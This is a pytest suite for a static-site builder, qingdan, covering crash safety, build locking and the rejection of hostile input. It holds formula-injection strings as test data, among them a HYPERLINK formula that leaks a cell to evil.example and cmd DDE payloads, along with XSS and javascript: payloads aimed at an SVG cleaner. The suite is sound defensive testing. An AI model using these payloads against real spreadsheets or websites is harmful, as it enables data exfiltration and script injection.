"""Hostile cases for the build and its outputs: each has an expected outcome and a time bound.

Cases that run a full site build are marked slow.
"""

from __future__ import annotations

import csv
import errno
import os
import shutil
import signal
import subprocess
import sys
import time
from contextlib import contextmanager
from pathlib import Path

import openpyxl
import pytest
import sqlite_utils
from click.testing import CliRunner

from qingdan.atomic import LOCK_NAME, wait_for_removals
from qingdan.build import BuildError, build
from qingdan.cli import cli
from qingdan.csv_export import inert
from qingdan.urls import PATH_KINDS, SECTION_FOLDERS, is_site_name
from qingdan.validate import validate

from .conftest import MINI, edit, line_of

ROOT = Path(__file__).resolve().parents[1]


def alive(pid: int) -> bool:
    """Whether a process runs (a zombie, killed but not yet reaped by init, does not count)."""
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except (FileNotFoundError, ProcessLookupError):
        return False
    return state not in ("Z", "X")


def wait_until(condition, seconds: float) -> bool:
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        if condition():
            return True
        time.sleep(0.05)
    return condition()


# --- child processes -------------------------------------------------------------------

PARENT = """
import sys, time
from qingdan import children
if sys.argv[1] == "without setpriv":
    children._SETPRIV = None
child = children.popen([sys.executable, "-c", "import time; time.sleep(120)"])
print(child.pid, flush=True)
time.sleep(120)
"""
# util-linux's setpriv arms the death signal where it is installed (Debian always has it); the
# preexec_fn way is the fallback elsewhere: both are checked on this machine.
ARMING = ["with setpriv if installed", "without setpriv"]


@pytest.mark.parametrize("arming", ARMING)
def test_a_missing_program_is_reported_as_subprocess_reports_it(arming, monkeypatch):
    """Expected: starting a program that is not installed raises FileNotFoundError, as subprocess
    does, also when the death signal is armed by a wrapper program (children.py)."""
    from qingdan import children

    if arming == "without setpriv":
        monkeypatch.setattr(children, "_SETPRIV", None)
    with pytest.raises(FileNotFoundError):
        children.run(["qingdan-no-such-program"], capture_output=True)
    assert children.run([sys.executable, "-c", "print(6 * 7)"], capture_output=True, text=True).stdout == "42\n"


@pytest.mark.parametrize("arming", ARMING)
def test_a_child_dies_when_its_parent_is_killed(arming):
    """Expected: SIGKILL to a process that started a child through qingdan.children kills the child
    within 5 s (no orphaned MkDocs or dot keeps running)."""
    parent = subprocess.Popen([sys.executable, "-c", PARENT, arming], stdout=subprocess.PIPE, text=True, cwd=ROOT)
    try:
        child = int(parent.stdout.readline())
        assert alive(child)
        parent.send_signal(signal.SIGKILL)
        parent.wait(timeout=5)
        assert wait_until(lambda: not alive(child), 5), "the child outlived its parent"
    finally:
        parent.kill()
        parent.wait()
        if "child" in locals() and alive(child):
            os.kill(child, signal.SIGKILL)


# --- formulas in downloads -------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A3,"点我")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
]


def test_formula_names_are_inert_in_the_csv_downloads_and_raw_in_the_database(mini, tmp_path):
    """Expected: every CSV cell starting with = + - @ gets a leading ' (OWASP); the database keeps
    the raw text; within 30 s."""
    edit(mini, "name: 张三", f"name: '{FORMULAS[0].replace(chr(39), chr(39) * 2)}'")
    edit(mini, "name: 李 四", f'name: "{FORMULAS[1]}"')
    edit(mini, "name: 基金监管股", f"name: '{FORMULAS[2].replace(chr(39), chr(39) * 2)}'")
    edit(mini, "name: 待遇股", f'name: "{FORMULAS[3]}"')
    started = time.monotonic()
    result = build(mini, tmp_path / "dist", site=False, version="t")
    assert time.monotonic() - started < 30
    cells = {
        cell
        for path in (result.dist / "csv").glob("*.csv")
        for row in csv.reader(path.open(encoding="utf-8-sig"))
        for cell in row
    }
    for formula in FORMULAS:
        assert "'" + formula in cells
        assert formula not in cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    db = sqlite_utils.Database(result.dist / "qingdan.db")
    names = {row["name"] for row in db["persons"].rows} | {row["name"] for row in db["units"].rows}
    assert set(FORMULAS) <= names


def test_text_that_only_looks_like_a_formula_is_kept_as_it_is():
    """Expected: numbers stay numbers and text not starting with a formula character is unchanged."""
    assert [inert(v) for v in (-2, 3.5, None, "a=b", "电话 +86", "'=x")] == [-2, 3.5, None, "a=b", "电话 +86", "'=x"]
    assert inert("\t=1") == "'\t=1" and inert("\r=1") == "'\r=1"


# --- IDs that are the site's own names -------------------------------------------------


@pytest.mark.parametrize(
    ("old", "new", "field"),
    [
        ("id: demo-ybj\n", "id: index\n", "agencies[0].id"),
        ("id: demo-power-b1\n", "id: assets\n", "powers[0].id"),
        ("id: demo-service-1\n", "id: sitemap.xml\n", "services[0].id"),
        ("id: doc-mini\n", "id: search\n", "documents[0].id"),
    ],
)
def test_an_id_that_is_a_site_name_is_a_validation_error(mini, tmp_path, old, new, field):
    """Expected: `qingdan validate` names file, line and field of the ID (exit 1) and the build
    writes nothing; within 30 s."""
    path = edit(mini, old, new)
    line = line_of(path, new.strip())
    started = time.monotonic()
    result = CliRunner().invoke(cli, ["validate", str(mini), "--quiet"])
    assert result.exit_code == 1
    assert f"registry.yaml:{line}: {field}: {new.strip().split(': ')[1]!r} is a name the site uses" in result.output
    with pytest.raises(BuildError, match="is a name the site uses"):
        build(mini, tmp_path / "dist", site=False)
    assert not (tmp_path / "dist").exists() and not list((tmp_path / "build").glob("dist*"))
    assert time.monotonic() - started < 30


# --- what dist is ----------------------------------------------------------------------


def snapshot(dist: Path) -> dict:
    """Every file under dist with its content (the site's through its link to a site tree), and where dist points."""
    files = {}
    for folder, _dirs, names in os.walk(dist, followlinks=True):
        for path in map(Path(folder).joinpath, names):
            files[path.relative_to(dist).as_posix()] = path.read_bytes()
    return {"link": os.readlink(dist) if dist.is_symlink() else None, "files": files}


def build_entries(build_dir: Path) -> set[str]:
    """What the build folder holds, with the random part of the one published version hidden, once
    the folders a build hands to a background removal (atomic.remove_later) are gone: this
    process's removals are waited for, a CLI build's (which outlive it) for up to 60 s."""
    wait_for_removals()

    def being_removed() -> bool:
        names = [p.name for p in build_dir.iterdir()]
        return (
            any(".old-" in n or ".staging-" in n or ".work-" in n for n in names) or sum(".v-" in n for n in names) > 1
        )

    wait_until(lambda: not being_removed(), 60)
    return {p.name.split(".v-")[0] + ".v-*" if ".v-" in p.name else p.name for p in build_dir.iterdir()}


CLEAN_BUILD_FOLDER = {"cache", "dist.v-*", LOCK_NAME}
WITH_SITE = {"site-src", "site-trees"}  # the site's sources and its two trees (atomic.site_tree)


@pytest.fixture
def good(mini, tmp_path):
    """A dist from a good build of the mini registry, without the site."""
    dist = tmp_path / "dist"
    build(mini, dist, site=False, version="good")
    return dist


def test_dist_that_is_a_file_is_refused(mini, tmp_path):
    """Expected: a clear error naming the file, which is left as it was; within 30 s."""
    dist = tmp_path / "dist"
    dist.write_text("my notes", encoding="utf-8")
    with timed(30), pytest.raises(BuildError, match="dist is a file, not a folder"):
        build(mini, dist, site=False)
    assert dist.read_text(encoding="utf-8") == "my notes"


@pytest.mark.parametrize("name", [".", "..", "build"])
def test_dist_that_is_the_working_or_build_folder_is_refused(mini, tmp_path, monkeypatch, name):
    """Expected: `--dist .`, `..` or `build` (the build folder itself) is refused before anything is
    written; within 10 s."""
    work = tmp_path / "work"
    work.mkdir()
    monkeypatch.chdir(work)
    with timed(10):
        result = CliRunner().invoke(cli, ["build", str(mini), "--dist", name, "--no-site"])
    assert result.exit_code == 1 and "cannot be the dist folder" in result.output, result.output
    assert list(work.iterdir()) == [] and sorted(p.name for p in tmp_path.iterdir()) == ["mini", "work"]


def test_a_dist_link_whose_version_was_deleted_is_rebuilt(good, mini, tmp_path):
    """Expected: when `rm -rf build/` left dist a dangling link, the next build makes it whole."""
    shutil.rmtree(tmp_path / "build")
    assert good.is_symlink() and not good.exists()
    with timed(30):
        build(mini, good, site=False, version="again")
    assert (good / "qingdan.db").is_file() and build_entries(tmp_path / "build") == CLEAN_BUILD_FOLDER


def test_dist_symlink_to_a_folder_the_build_did_not_make_is_refused(mini, tmp_path):
    """Expected: a clear error; neither the link nor the folder it points to is touched."""
    elsewhere = tmp_path / "www"
    elsewhere.mkdir()
    (elsewhere / "index.html").write_text("mine", encoding="utf-8")
    dist = tmp_path / "dist"
    dist.symlink_to(elsewhere)
    with timed(30), pytest.raises(BuildError, match="symbolic link to .*www, which `qingdan build` did not make"):
        build(mini, dist, site=False)
    assert os.readlink(dist) == str(elsewhere)
    assert [p.name for p in elsewhere.iterdir()] == ["index.html"]


def test_dist_folder_with_files_the_build_did_not_write_is_refused(mini, tmp_path):
    """Expected: `--dist` pointing at a folder of other files (a home folder, a checkout) deletes
    nothing: a clear error naming a file."""
    dist = tmp_path / "dist"
    dist.mkdir()
    (dist / "notes.txt").write_text("keep me", encoding="utf-8")
    (dist / "qingdan.db").write_bytes(b"old")
    with timed(30), pytest.raises(BuildError, match=r"holds files a build did not write \(notes.txt\)"):
        build(mini, dist, site=False)
    assert sorted(p.name for p in dist.iterdir()) == ["notes.txt", "qingdan.db"]


def test_a_real_dist_folder_from_an_older_build_is_replaced_whole(mini, tmp_path):
    """Expected: the old folder (with an older build's leftover staging) becomes a link to the new
    build in one step; nothing of the old one remains."""
    dist = tmp_path / "dist"
    (dist / "site").mkdir(parents=True)
    (dist / "site" / "index.html").write_text("old site", encoding="utf-8")
    (dist / "qingdan.db").write_bytes(b"old")
    (dist / ".site.staging.x1y2").mkdir()
    with timed(30):
        build(mini, dist, site=False, version="new")
    assert dist.is_symlink() and os.readlink(dist).startswith("build/dist.v-")
    assert not (dist / "site").exists()
    assert sqlite_utils.Database(dist / "qingdan.db")["builds"].count == 1
    assert build_entries(tmp_path / "build") == CLEAN_BUILD_FOLDER
    assert sorted(p.name for p in tmp_path.iterdir()) == ["build", "dist", "mini"]


@pytest.mark.slow
def test_what_a_killed_build_left_is_cleaned_by_the_next(mini, good, tmp_path):
    """Expected: staging folders, half-made links and unpublished versions of a killed build are
    removed by the next build; the published version is kept until replaced."""
    build_dir = tmp_path / "build"
    (build_dir / "dist.staging-dead01" / "out" / "site").mkdir(parents=True)
    (build_dir / "dist.staging-dead01" / "out" / "qingdan.db").write_bytes(b"half")
    (build_dir / "dist.v-dead01").mkdir()
    (build_dir / "dist.link-dead01").symlink_to("dist.v-dead01")
    before = os.readlink(good)
    with timed(30):
        build(mini, good, site=False, version="next")
    assert os.readlink(good) != before
    assert build_entries(build_dir) == CLEAN_BUILD_FOLDER


@pytest.mark.slow
def test_a_lock_left_by_a_killed_build_does_not_block(mini, good, tmp_path):
    """Expected: the lock file of a build that died (its process gone) does not stop the next one."""
    (tmp_path / "build" / LOCK_NAME).write_text("999999\n", encoding="utf-8")
    with timed(30):
        build(mini, good, site=False, version="after-crash")
    assert next(sqlite_utils.Database(good / "qingdan.db").query("select version from builds"))["version"] == (
        "after-crash"
    )


LOCK_HOLDER = """
import fcntl, os, sys, time
fd = os.open(sys.argv[1], os.O_RDWR | os.O_CREAT)
fcntl.flock(fd, fcntl.LOCK_EX)
print("locked", flush=True)
time.sleep(60)
"""


def test_a_second_build_while_one_runs_is_stopped_with_a_clear_message(mini, good, tmp_path):
    """Expected: while another process holds the build lock, a build stops at once (under 10 s)
    naming the other process, and dist is untouched."""
    before = snapshot(good)
    holder = subprocess.Popen(
        [sys.executable, "-c", LOCK_HOLDER, str(tmp_path / "build" / LOCK_NAME)], stdout=subprocess.PIPE, text=True
    )
    try:
        assert holder.stdout.readline().strip() == "locked"
        with timed(10), pytest.raises(BuildError, match="another build is running in .*build"):
            build(mini, good, site=False)
    finally:
        holder.kill()
        holder.wait()
    assert snapshot(good) == before
    assert build_entries(tmp_path / "build") == CLEAN_BUILD_FOLDER


@pytest.mark.slow
def test_a_full_disk_fails_cleanly_and_keeps_the_last_dist(mini, good, tmp_path, monkeypatch):
    """Expected: ENOSPC while writing the CSV gives a clear error naming the file and the reason;
    dist is unchanged and the half-written staging folder is gone."""
    before = snapshot(good)

    def disk_full(db_path, target):
        (target / "powers.csv").write_text("id,na", encoding="utf-8")
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC), str(target / "powers.csv"))

    monkeypatch.setattr("qingdan.build.export_csv", disk_full)
    with timed(30), pytest.raises(BuildError, match=r"powers.csv: No space left on device; .*dist is left as it was"):
        build(mini, good, site=False)
    assert snapshot(good) == before
    assert build_entries(tmp_path / "build") == CLEAN_BUILD_FOLDER


@pytest.mark.slow
def test_a_dist_that_cannot_be_replaced_gives_a_clear_error(mini, good, tmp_path):
    """Expected: when dist's folder is read-only, a clear error (the reason, no traceback), dist
    unchanged and no staging left; within 30 s."""
    before = snapshot(good)
    with read_only(tmp_path):
        result = CliRunner().invoke(cli, ["build", str(mini), "--dist", str(good), "--no-site"])
    assert result.exit_code == 1
    assert "the build failed:" in result.output and "dist is left as it was" in result.output
    assert "Traceback" not in result.output
    assert snapshot(good) == before
    assert build_entries(tmp_path / "build") == CLEAN_BUILD_FOLDER


@contextmanager
def read_only(folder: Path):
    """Make `folder` read-only for this process, also when it runs as root (chattr +i)."""
    if os.geteuid() != 0:
        folder.chmod(0o555)
        try:
            yield
        finally:
            folder.chmod(0o755)
        return
    chattr = subprocess.run(["chattr", "+i", str(folder)], capture_output=True, text=True)
    assert chattr.returncode == 0, (
        "as root, a folder is made read-only with `chattr +i` (Debian package e2fsprogs), on a file system "
        f"with the immutable flag (ext4, xfs, btrfs); it failed: {chattr.stderr.strip()}"
    )
    try:
        yield
    finally:
        subprocess.run(["chattr", "-i", str(folder)], check=True)


@contextmanager
def timed(seconds: float):
    started = time.monotonic()
    yield
    assert time.monotonic() - started < seconds, f"took more than {seconds} s"


@pytest.mark.slow
def test_formula_names_stay_text_in_the_template_workbook_and_round_trip(mini, tmp_path):
    """Expected: `qingdan template` stores text starting with = + - @ as string cells (no formula
    anywhere in the sheet XML), and `qingdan import` of that workbook reads the same text back;
    within 60 s."""
    import zipfile

    from qingdan.spreadsheet import import_workbook, write_template

    edit(mini, "name: 张三", f"name: '{FORMULAS[0].replace(chr(39), chr(39) * 2)}'")
    edit(mini, "name: 李 四", f'name: "{FORMULAS[1]}"')
    edit(mini, "name: 基金监管股", f"name: '{FORMULAS[2].replace(chr(39), chr(39) * 2)}'")
    edit(mini, "name: 待遇股", f'name: "{FORMULAS[3]}"')
    with timed(60):
        path = write_template(mini, "demo-ybj", tmp_path / "demo.xlsx")
        with zipfile.ZipFile(path) as book:
            sheets = [book.read(n).decode("utf-8") for n in book.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any("<f>" in xml or "<f " in xml for xml in sheets)
        cells = {
            cell.value: cell.data_type
            for ws in openpyxl.load_workbook(path).worksheets
            for row in ws.iter_rows()
            for cell in row
        }
        assert all(cells.get(formula) == "s" for formula in FORMULAS), {f: cells.get(f) for f in FORMULAS}
        result = import_workbook(mini, path)
    assert result.ok, [e.format() for e in result.errors]
    registry = validate(mini).registry
    assert set(FORMULAS) <= {p.name for p in registry.of("person")} | {u.name for u in registry.of("unit")}


# --- full builds (slow) ----------------------------------------------------------------


@pytest.fixture(scope="module")
def published(tmp_path_factory):
    """A folder with a registry and a dist from a good full build, to copy for each case."""
    base = tmp_path_factory.mktemp("published")
    shutil.copytree(MINI, base / "registry")
    build(base / "registry", base / "dist", version="good", site_url="http://127.0.0.1:8000/")
    return base


@pytest.fixture
def project(published, tmp_path):
    target = tmp_path / "project"
    shutil.copytree(published, target, symlinks=True)
    return target


def cli_build(project: Path, **kwargs) -> subprocess.Popen:
    command = [sys.executable, "-m", "qingdan.cli", "build", "registry", "--dist", "dist"]
    return subprocess.Popen(command, cwd=project, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, **kwargs)


def children_of(pid: int) -> list[tuple[int, str]]:
    found = []
    for stat in Path("/proc").glob("[0-9]*/stat"):
        try:
            fields = stat.read_text().rsplit(")", 1)[1].split()
            if int(fields[1]) == pid:
                found.append((int(stat.parent.name), (stat.parent / "cmdline").read_bytes().decode(errors="replace")))
        except (OSError, ValueError, IndexError):
            continue
    return found


def slow_pagefind(folder: Path) -> Path:
    """A folder for PYTHONPATH whose sitecustomize makes the build start Pagefind through a script
    that waits 30 s, then becomes the real binary (same process: it still dies with the build)."""
    import pagefind_bin_extended

    folder.mkdir()
    script = folder / "slow_pagefind.py"
    real = str(pagefind_bin_extended.get_executable())
    script.write_text(
        f"#!{sys.executable}\nimport os, sys, time\ntime.sleep(30)\nos.execv({real!r}, [{real!r}, *sys.argv[1:]])\n",
        encoding="utf-8",
    )
    script.chmod(0o755)
    (folder / "sitecustomize.py").write_text(
        "import pathlib, pagefind_bin_extended\n"
        f"pagefind_bin_extended.get_executable = lambda: pathlib.Path({str(script)!r})\n",
        encoding="utf-8",
    )
    return folder


@pytest.mark.slow
@pytest.mark.parametrize("moment", ["database written", "mkdocs", "pagefind"])
def test_kill_9_mid_build_leaves_the_last_good_dist_whole(project, moment):
    """Expected: SIGKILL once the new database is written, while MkDocs runs or while Pagefind
    indexes, leaves dist exactly as it was; the child dies with the build (within 5 s); the
    next build cleans the leftovers and succeeds; each step within 120 s."""
    dist = project / "dist"
    before = snapshot(dist)
    env = None
    if moment == "pagefind":  # its command line takes a blink on this registry: held 30 s before it starts
        env = dict(os.environ, PYTHONPATH=str(slow_pagefind(project / "shim")))
        shutil.rmtree(project / "build" / "cache" / "search-index")  # or nothing changed and it would not run
    build_proc = cli_build(project, env=env)
    running: list[int] = []
    try:

        def reached() -> bool:
            if moment == "database written":
                return any((project / "build").glob("dist.staging-*/qingdan.db"))
            running[:] = [pid for pid, cmd in children_of(build_proc.pid) if moment in cmd]
            return bool(running)

        assert wait_until(reached, 120), build_proc.communicate()[0] if build_proc.poll() is not None else moment
        build_proc.send_signal(signal.SIGKILL)
        build_proc.wait(timeout=10)
    finally:
        build_proc.kill()
        build_proc.wait()
    assert wait_until(lambda: not any(alive(pid) for pid in running), 5), f"{moment} outlived the build"
    assert snapshot(dist) == before
    assert any((project / "build").glob("dist.staging-*"))  # the killed build's staging, not yet cleaned

    with timed(120):
        rebuilt = cli_build(project)
        output = rebuilt.communicate(timeout=120)[0]
    assert rebuilt.returncode == 0, output
    assert (dist / "site" / "index.html").is_file() and (dist / "site" / "downloads" / "qingdan.db").is_file()
    assert build_entries(project / "build") == CLEAN_BUILD_FOLDER | WITH_SITE
    # the site tree the killed build was changing was repaired: the site of a build from scratch
    fresh = project.parent / "fresh"
    shutil.copytree(project / "registry", fresh / "registry")
    with timed(120):
        assert cli_build(fresh).wait(timeout=120) == 0
    assert site_pages(snapshot(dist)) == site_pages(snapshot(fresh / "dist")) != {}


def site_pages(snapshot: dict) -> dict:
    return {
        rel: data for rel, data in snapshot["files"].items() if rel.startswith("site/") and "/downloads/" not in rel
    }


@pytest.mark.slow
def test_two_builds_at_once_one_waits_for_nothing_and_the_other_completes(project):
    """Expected: a second build while the first runs exits 1 at once (under 20 s) naming the first
    one's process; the first completes (exit 0, under 120 s, under 1.5 GB) and dist is whole."""
    first = cli_build(project)
    try:
        assert wait_until(lambda: any((project / "build").glob("dist.staging-*")), 60)
        with timed(20):
            second = subprocess.run(
                [sys.executable, "-m", "qingdan.cli", "build", "registry", "--dist", "dist"],
                cwd=project,
                capture_output=True,
                text=True,
                timeout=20,
            )
        assert second.returncode == 1
        assert f"another build is running in {project / 'build'} (process {first.pid})" in second.stderr
        assert "Traceback" not in second.stderr
        _, status, usage = os.wait4(first.pid, 0)
        first.returncode = os.waitstatus_to_exitcode(status)
    finally:
        first.kill()
    assert first.returncode == 0, first.stdout.read()
    assert usage.ru_maxrss < 1_500_000  # kilobytes
    assert (project / "dist" / "site" / "index.html").is_file()
    assert build_entries(project / "build") == CLEAN_BUILD_FOLDER | WITH_SITE


FAILING_MKDOCS = "import sys\nprint('ERROR    -  the theme is broken', file=sys.stderr)\nsys.exit(1)\n"


@pytest.mark.slow
def test_a_registry_that_fails_in_the_site_stage_leaves_the_old_dist(project, monkeypatch):
    """Expected: when MkDocs fails after the database was built, `qingdan build` exits 1 with a clear
    error (no traceback) and dist, its database included, is exactly the previous one."""
    fake = project / "fake-mkdocs" / "mkdocs"
    fake.mkdir(parents=True)
    (fake / "__init__.py").write_text("", encoding="utf-8")
    (fake / "__main__.py").write_text(FAILING_MKDOCS, encoding="utf-8")
    monkeypatch.setenv("PYTHONPATH", str(fake.parent))
    before = snapshot(project / "dist")
    monkeypatch.chdir(project)
    with timed(120):
        result = CliRunner().invoke(cli, ["build", "registry", "--dist", "dist"])
    assert result.exit_code == 1
    assert "the site could not be built; dist is left as it was" in result.output
    assert "the theme is broken" in result.output and "Traceback" not in result.output
    assert snapshot(project / "dist") == before
    assert build_entries(project / "build") == CLEAN_BUILD_FOLDER | WITH_SITE


@pytest.mark.slow
def test_the_reserved_names_cover_everything_the_site_writes(published):
    """Expected: every name the build writes at the top of the site, and every name in a section
    folder that is not a record's, is one IDs may not take."""
    site = published / "dist" / "site"
    registry = validate(published / "registry").registry
    records = {record.id for kind in PATH_KINDS for record in registry.of(kind)}
    sources = {Path(doc.file).name for doc in registry.of("document")}
    names = {p.name for p in site.iterdir()}
    for folder in (site / section for section in SECTION_FOLDERS if (site / section).is_dir()):
        names |= {p.name for p in folder.iterdir() if p.name not in records | sources}
    assert {"index.html", "assets", "downloads", "guides"} <= names and len(names) > 10  # the check is not empty
    assert {name for name in names if not is_site_name(name)} == set()


@pytest.mark.slow
def test_no_temporary_file_or_cache_outside_the_build_folder(project):
    """Expected: a build (MkDocs, jieba, git included) writes nothing to the system's temporary
    folder; the build folder holds only the caches, the site sources, the lock and the dist."""
    system_tmp = project.parent / "system-tmp"
    system_tmp.mkdir()
    shutil.rmtree(project / "build" / "cache" / "jieba")
    with timed(120):
        proc = cli_build(project, env=dict(os.environ, TMPDIR=str(system_tmp)))
        output = proc.communicate(timeout=120)[0]
    assert proc.returncode == 0, output
    assert list(system_tmp.iterdir()) == []
    assert build_entries(project / "build") == CLEAN_BUILD_FOLDER | WITH_SITE
    assert (project / "build" / "cache" / "jieba" / "jieba.cache").is_file()  # jieba's, for the database


# --- Graphviz --------------------------------------------------------------------------


def test_graphviz_is_bounded_in_time_and_fails_in_plain_words(monkeypatch):
    """Expected: a chart that takes too long stops `dot` with a clear error (within 5 s); a failing
    or missing Graphviz is a clear error, never a traceback from the graphviz library."""
    from qingdan import graphviz_svg

    monkeypatch.setattr(graphviz_svg, "SECONDS", 0.001)
    with timed(5), pytest.raises(graphviz_svg.GraphvizError, match="took more than 0.001 s"):
        graphviz_svg.render("digraph { a -> b }")
    monkeypatch.undo()
    with pytest.raises(graphviz_svg.GraphvizError, match=r"could not draw a chart \(exit 1\): .*syntax error"):
        graphviz_svg.render("digraph { a -> ")
    with pytest.raises(graphviz_svg.GraphvizError, match="'no-such-layout' program was not found"):
        graphviz_svg.render("digraph { a }", engine="no-such-layout")


# --- second round (issue 25): content cannot stop publication; files checked before they are read -------------


@pytest.mark.slow
def test_separators_and_script_like_labels_are_text_and_the_site_is_built(mini, tmp_path):
    """A power name holding U+2028, U+2029 and NEL keeps its page's JSON-LD one valid script with the exact name;
    a flowchart step labelled `javascript:1` is drawn, the label shown as text; the build succeeds; within 180 s."""
    import json
    import re

    edit(
        mini,
        "    name: 对骗取医疗保障基金行为的处罚\n",
        '    name: "对骗取\\u2028医疗保障\\u2029基金\\x85行为的处罚"\n',
    )
    edit(mini, "label: 调查}", 'label: "javascript:1"}')
    started = time.monotonic()
    build(mini, tmp_path / "dist", site_url="http://127.0.0.1:8000/")
    assert time.monotonic() - started < 180
    site = tmp_path / "dist" / "site"
    pages = [p for p in site.rglob("index.html") if "application/ld+json" in p.read_text(encoding="utf-8")]
    names = []
    for page in pages:
        text = page.read_text(encoding="utf-8")
        for raw in re.findall(r'<script type="application/ld\+json">(.*?)</script>', text, re.DOTALL):
            assert "\u2028" not in raw and "\u2029" not in raw and "\x85" not in raw and "\n" not in raw
            names.append(json.loads(raw).get("name"))
    assert "对骗取\u2028医疗保障\u2029基金\x85行为的处罚" in names
    drawn = [p for p in site.rglob("index.html") if "javascript:1" in p.read_text(encoding="utf-8")]
    assert drawn, "the flowchart with the step javascript:1 was not drawn"
    for page in drawn:
        svgs = re.findall(r"<svg.*?</svg>", page.read_text(encoding="utf-8"), re.DOTALL)
        assert any("javascript:1</text>" in svg for svg in svgs)
        assert not re.search(r"href=\"\s*javascript:", page.read_text(encoding="utf-8"), re.IGNORECASE)


def test_the_svg_cleaner_refuses_scripts_in_tags_not_words_in_text():
    from qingdan.graphviz_svg import clean

    text = '<svg><g><text x="1">javascript:1 onload=2 &lt;script&gt;</text></g></svg>'
    assert clean(text) is not None
    for hostile in (
        '<svg><a href="javascript:alert(1)"><text>x</text></a></svg>',
        '<svg><a xlink:href="java&#115;cript:alert(1)"><text>x</text></a></svg>',
        '<svg><a href=" java\tscript:alert(1)"><text>x</text></a></svg>',
        '<svg><g onload="alert(1)"></g></svg>',
        "<svg><script>alert(1)</script></svg>",
        "<svg><foreignObject></foreignObject></svg>",
    ):
        assert clean(hostile) is None, hostile


def test_a_drawing_that_cannot_be_made_safely_is_left_out_and_the_rest_is_built(mini, tmp_path, monkeypatch):
    from qingdan import flowchart, graphviz_svg

    monkeypatch.setattr(graphviz_svg, "clean", lambda svg, links_to=None: None)  # every drawing "unsafe"
    flowchart._DRAWN.clear()
    flowchart.LEFT_OUT.clear()
    registry = validate(mini).registry
    flow = registry.get("demo-flow-b1")
    assert flowchart.flowchart_svg(registry, flow) is None
    assert flowchart.LEFT_OUT and flowchart.LEFT_OUT[0][0] == "demo-flow-b1"


def test_a_document_id_equal_to_its_source_file_name_is_a_validation_error(mini, tmp_path):
    edit(mini, "doc-mini", "mini.txt", count=-1)
    result = CliRunner().invoke(cli, ["validate", str(mini), "--quiet"])
    assert result.exit_code == 1 and "'mini.txt' is the name of the source file" in result.output
    with pytest.raises(BuildError, match="is the name of the source file"):
        build(mini, tmp_path / "dist", site=False)


def test_a_registry_link_to_a_huge_file_is_never_read(mini, tmp_path):
    """A non-YAML link in the registry to an 8 GB (sparse) file outside it: the stamp names the link, never reads it."""
    huge = tmp_path / "huge.bin"
    with open(huge, "wb") as handle:
        handle.truncate(8 * 1024**3)
    (mini / "notes.txt").symlink_to(huge)
    started = time.monotonic()
    build(mini, tmp_path / "dist", site=False)
    assert time.monotonic() - started < 60


def test_a_source_text_that_is_a_hard_link_is_refused_before_it_is_read(mini, tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("root:x:0:0:root:/root:/bin/bash\n" * 40, encoding="utf-8")
    source = mini / "sources" / "mini.txt"
    source.unlink()
    os.link(secret, source)
    result = CliRunner().invoke(cli, ["validate", str(mini), "--quiet"])
    assert result.exit_code == 1 and "is a hard link" in result.output
    with pytest.raises(BuildError):
        build(mini, tmp_path / "dist", site=False)
    assert not (tmp_path / "dist").exists()


def test_an_emptied_registry_file_is_named_before_the_references_it_leaves(mini, tmp_path):
    """The records of one file (here the units) moved to their own file, which is then emptied outside git
    (`: > units.yaml`): the file is named first, then the references to its records that now dangle."""
    path = mini / "demo-bureau" / "registry.yaml"
    text = path.read_text(encoding="utf-8")
    start, end = text.index("units:\n"), text.index("\npersons:")
    (mini / "demo-bureau" / "units.yaml").write_text("", encoding="utf-8")
    path.write_text(text[:start] + text[end + 1 :], encoding="utf-8")
    result = CliRunner().invoke(cli, ["validate", str(mini), "--quiet"])
    assert result.exit_code == 1
    lines = [line for line in result.output.splitlines() if ": (file): " in line or "not in the registry" in line]
    assert "units.yaml:1: (file): the file holds no record" in lines[0], result.output
    assert any("not in the registry" in line for line in lines[1:])


@pytest.mark.parametrize("option", ["site_url", "datasette_url"])
@pytest.mark.parametrize(
    "value", ['http://x/"><img src=x onerror=alert(1)>', "javascript:alert(1)", "ftp://x/", "http://", "x y"]
)
def test_public_addresses_are_checked_as_http_urls(mini, tmp_path, option, value):
    with pytest.raises(BuildError, match="is not a usable public address"):
        build(mini, tmp_path / "dist", site=False, **{option: value})
    assert not (tmp_path / "dist").exists()


def test_a_full_disk_while_writing_the_database_is_a_clear_error(mini, good, tmp_path, monkeypatch):
    import sqlite3

    before = snapshot(good)

    def disk_full(*args, **kwargs):
        raise sqlite3.OperationalError("database or disk is full")

    monkeypatch.setattr("qingdan.build.build_database", disk_full)
    with pytest.raises(BuildError, match=r"database or disk is full; free some disk space .*left as it was"):
        build(mini, good, site=False)
    assert snapshot(good) == before


@pytest.mark.slow
def test_two_dists_in_one_folder_built_alternately_never_mix(mini, tmp_path):
    """dist-1 and dist-2 beside each other (one build folder), built alternately from two registries: each dist's
    site shows its own agency only, and building one never changes the other's site; within 300 s."""
    other = tmp_path / "other"
    shutil.copytree(mini, other)
    edit(other, "    name: 襄垣县医疗保障局", "    name: 另一县医疗保障局")
    one, two = tmp_path / "a" / "dist-1", tmp_path / "a" / "dist-2"
    started = time.monotonic()
    build(mini, one, site_url="http://127.0.0.1:8000/")
    first = snapshot(one)
    build(other, two, site_url="http://127.0.0.1:8000/")
    assert snapshot(one) == first, "building dist-2 changed dist-1's site"
    build(mini, one, site_url="http://127.0.0.1:8000/", version="again")
    build(other, two, site_url="http://127.0.0.1:8000/", version="again")
    for dist, own, foreign in (
        (one, "襄垣县医疗保障局", "另一县医疗保障局"),
        (two, "另一县医疗保障局", "襄垣县医疗保障局"),
    ):
        home = (dist / "site" / "index.html").read_text(encoding="utf-8")
        assert own in home and foreign not in home, dist
    assert os.path.realpath(one / "site") != os.path.realpath(two / "site")
    assert time.monotonic() - started < 300


FORKING_PARENT = """
import os, sys, time
from concurrent.futures import ProcessPoolExecutor
from multiprocessing import get_context
from qingdan import children


def _pid(_):
    time.sleep(0.2)
    return os.getpid()


with children.forks_die_with_me():
    pool = ProcessPoolExecutor(2, mp_context=get_context("fork"))
